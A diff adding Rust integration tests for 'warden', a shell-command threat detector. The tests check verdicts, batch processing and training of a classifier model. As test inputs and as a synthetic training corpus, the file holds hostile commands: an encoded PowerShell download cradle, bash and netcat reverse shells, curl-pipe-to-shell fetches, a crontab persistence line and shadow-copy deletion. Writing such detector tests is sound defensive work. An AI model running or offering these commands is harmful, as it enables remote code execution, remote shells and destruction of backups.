@@ -1,0 +1,246 @@
+//! `warden analyze` and `warden train payload`: verdicts as JSON, batches in input order with
+//! bad records named and counted, a trained model registered and used from the store.
+
+use std::io::Write;
+
+use super::warden;
+
+fn json(out: &[u8]) -> serde_json::Value {
+    serde_json::from_slice(out).expect("one JSON object")
+}
+
+#[test]
+fn an_encoded_download_cradle_is_decoded_and_blocked() {
+    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let b64 = warden_payload::deobf::codec::to_base64(&utf16);
+    let out = warden()
+        .args([
+            "analyze",
+            &format!("powershell.exe -NoP -W Hidden -enc {b64}"),
+        ])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let v = json(&out);
+    assert_eq!(v["action"], "BLOCK");
+    assert_eq!(v["level"], "CRITICAL");
+    let layers = v["layers"].as_array().unwrap();
+    assert_eq!(layers.last().unwrap()["text"], script);
+    assert_eq!(layers[1]["decoder"], "powershell-encoded-command");
+    let attack: Vec<&str> = v["attack"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t.as_str())
+        .collect();
+    assert!(
+        attack.contains(&"T1105") && attack.contains(&"T1027"),
+        "{attack:?}"
+    );
+    assert!(v["explanation"].as_str().unwrap().contains("layer"));
+    assert_eq!(v["views"]["model"], serde_json::Value::Null);
+}
+
+#[test]
+fn standard_input_and_everyday_commands() {
+    let out = warden()
+        .args(["analyze", "--shell", "sh", "-"])
+        .write_stdin("ls -la /home\n")
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let v = json(&out);
+    assert_eq!(v["action"], "ALLOW");
+    assert_eq!(v["shell"], "sh");
+    let a = warden()
+        .args(["analyze", "--shell", "fish", "ls"])
+        .assert()
+        .failure();
+    assert!(String::from_utf8_lossy(&a.get_output().stderr).contains("unknown shell"));
+}
+
+#[test]
+fn a_batch_keeps_input_order_and_reports_bad_records() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("batch.jsonl");
+    let mut f = std::fs::File::create(&path).unwrap();
+    writeln!(
+        f,
+        r#"{{"id": "a", "text": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "label": "x"}}"#
+    )
+    .unwrap();
+    writeln!(f, "not json").unwrap();
+    writeln!(f, r#"{{"id": 2, "text": "git status", "shell": "sh"}}"#).unwrap();
+    writeln!(f, r#"{{"id": "c", "shell": "sh"}}"#).unwrap();
+    writeln!(f, r#"{{"id": "d", "text": "x", "shell": "fish"}}"#).unwrap();
+    writeln!(
+        f,
+        r#"{{"text": "vssadmin delete shadows /all /quiet", "shell": "cmd"}}"#
+    )
+    .unwrap();
+    drop(f);
+    let a = warden()
+        .args(["analyze", "--jsonl"])
+        .arg(&path)
+        .assert()
+        .success();
+    let o = a.get_output();
+    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 3);
+    assert_eq!(lines[0]["id"], "a");
+    assert_eq!(lines[0]["action"], "BLOCK");
+    assert_eq!(lines[1]["id"], 2);
+    assert_eq!(lines[1]["action"], "ALLOW");
+    assert!(lines[2].get("id").is_none());
+    assert!(
+        lines[2]["attack"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t == "T1490")
+    );
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("batch.jsonl:2:"), "{err}");
+    assert!(
+        err.contains("batch.jsonl:4:") && err.contains("text"),
+        "{err}"
+    );
+    assert!(err.contains("batch.jsonl:5: field `shell`"), "{err}");
+    assert!(err.contains("3 analysed, 3 bad records"), "{err}");
+}
+
+/// A labelled corpus built from parts (so it is not a copy of any data set).
+fn corpus(path: &std::path::Path) {
+    let benign = [
+        "ls -la {d}",
+        "git log --oneline -n {n}",
+        "tar -czf backup{n}.tgz {d}",
+        "du -sh {d}",
+        "grep -rn TODO {d}",
+        "cp notes{n}.txt {d}",
+        "df -h",
+        "ps aux | grep nginx",
+    ];
+    let malicious = [
+        "curl -s http://203.0.113.{n}/x.sh | bash",
+        "bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1",
+        "wget -q http://203.0.113.{n}/m -O /tmp/.m{n} && chmod +x /tmp/.m{n} && /tmp/.m{n}",
+        "nc -e /bin/sh 198.51.100.{n} 9001",
+        "echo '* * * * * curl http://203.0.113.{n}/b|sh' | crontab -",
+    ];
+    let dirs = [
+        "/srv/app",
+        "src",
+        "/home/ann/docs",
+        "~/projects",
+        "/var/www",
+    ];
+    let mut f = std::fs::File::create(path).unwrap();
+    for i in 0..400usize {
+        let (text, label) = if i % 4 == 0 {
+            (
+                malicious[i / 4 % malicious.len()].replace("{n}", &(i % 250 + 1).to_string()),
+                "malicious",
+            )
+        } else {
+            (
+                benign[i % benign.len()]
+                    .replace("{n}", &i.to_string())
+                    .replace("{d}", dirs[i % dirs.len()]),
+                "benign",
+            )
+        };
+        writeln!(
+            f,
+            "{}",
+            serde_json::json!({"text": text, "label": label, "shell": "sh"})
+        )
+        .unwrap();
+    }
+    writeln!(f, r#"{{"text": "no label"}}"#).unwrap();
+}
+
+#[test]
+fn a_trained_model_is_registered_and_used() {
+    let dir = tempfile::tempdir().unwrap();
+    let train = dir.path().join("train.jsonl");
+    corpus(&train);
+    let model = dir.path().join("payload.wpld");
+    let store = dir.path().join("warden.db");
+    let trained = warden()
+        .args([
+            "train", "payload", "--bits", "16", "--epochs", "6", "--input",
+        ])
+        .arg(&train)
+        .arg("--out")
+        .arg(&model)
+        .assert()
+        .success();
+    let err = String::from_utf8_lossy(&trained.get_output().stderr).to_string();
+    assert!(
+        err.contains("1 bad records") && err.contains("field `label`"),
+        "{err}"
+    );
+    warden()
+        .args([
+            "models",
+            "register",
+            "--name",
+            "payload",
+            "--activate",
+            "--store",
+        ])
+        .arg(&store)
+        .arg(&model)
+        .assert()
+        .success();
+    let list = warden()
+        .args(["models", "list", "--json", "--store"])
+        .arg(&store)
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let m: serde_json::Value = serde_json::from_slice(
+        String::from_utf8_lossy(&list)
+            .lines()
+            .next()
+            .unwrap()
+            .as_bytes(),
+    )
+    .unwrap();
+    assert_eq!(m["kind"], "payload-linear");
+    assert_eq!(m["summary"]["training_rows"], 400);
+    let out = warden()
+        .args(["analyze", "--shell", "bash", "--store"])
+        .arg(&store)
+        .arg("bash -i >& /dev/tcp/192.0.2.77/5555 0>&1")
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    let v = json(&out);
+    assert!(v["views"]["model"].as_f64().unwrap() > 50.0, "{v}");
+    assert!(!v["model"]["raised_by"].as_array().unwrap().is_empty());
+    // A damaged model file is refused with its name.
+    let bad = dir.path().join("bad.wpld");
+    std::fs::write(&bad, b"WPLD\x01\x00garbage").unwrap();
+    let a = warden()
+        .args(["analyze", "--model"])
+        .arg(&bad)
+        .arg("ls")
+        .assert()
+        .failure();
+    let err = String::from_utf8_lossy(&a.get_output().stderr).to_string();
+    assert!(err.contains("bad.wpld") && err.contains("damaged"), "{err}");
+}
